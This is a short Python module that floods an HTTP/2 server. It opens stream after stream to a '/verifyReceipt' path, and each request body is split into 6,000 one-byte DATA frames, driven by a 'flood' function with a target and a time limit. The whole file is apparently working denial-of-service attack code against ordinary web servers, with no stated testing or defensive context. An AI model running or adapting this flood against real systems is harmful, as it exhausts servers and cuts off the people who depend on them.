"""Requests over HTTP/2 whose bodies arrive in DATA frames of one byte."""

from wire import DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, flood_connection, frame, literal, settings

FIELDS = b"\x83\x86\x01\x01a" + literal(":path", "/verifyReceipt") + literal("content-type", "application/json")


def chunks():
    stream = 1
    while True:
        body = frame(DATA, 0, stream, b" ") * 6_000
        yield frame(HEADERS, END_HEADERS, stream, FIELDS) + body + frame(DATA, END_STREAM, stream)
        stream += 2


def flood(target, until):
    return flood_connection(target.http, until, PREFACE + settings(), chunks)
